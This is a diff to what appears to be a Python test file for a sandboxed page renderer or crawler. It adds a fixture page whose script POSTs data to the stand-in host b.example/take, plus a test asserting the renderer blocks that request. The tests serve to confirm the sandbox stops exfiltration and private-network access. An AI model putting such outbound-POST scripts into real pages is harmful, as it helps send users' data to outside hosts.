@@ -72,6 +72,7 @@ def friendly_and_nosy(secret: int, udp: int) -> dict[str, Answer]:
         ),
         "/worker.js": (200, {"Content-Type": "text/javascript"}, f"fetch('{inside}').catch(() => postMessage(0))"),
         "/peer": nosy(peer + gathered + offer),
+        "/posts": nosy("fetch('http://b.example/take', {method: 'POST', mode: 'no-cors', body: 'x'}).catch(done)"),
         "/leaves": page(f"location.href = '{inside}'"),
         "/moves": page("location.href = 'http://b.example/there'"),
         "/rich": page(FILL, "<link rel=stylesheet href=/s.css><img src=/i.png><iframe src=/frame></iframe>" + LIST),
@@ -163,6 +164,11 @@ def test_nothing_private_is_reached(seen: Seen) -> None:
     assert not seen.udp
     assert seen.count("rendering/refused/loopback") >= 4
     assert seen.count("rendering/refused/local_name") >= 1
+
+
+def test_nothing_is_sent_to_others(seen: Seen) -> None:
+    assert seen.count("rendering/not_loaded/posted") == 1
+    assert seen.page("/posts")["text"] == SHOWN
 
 
 def test_a_script_that_leads_elsewhere_is_followed_by_the_crawl_itself(seen: Seen) -> None:
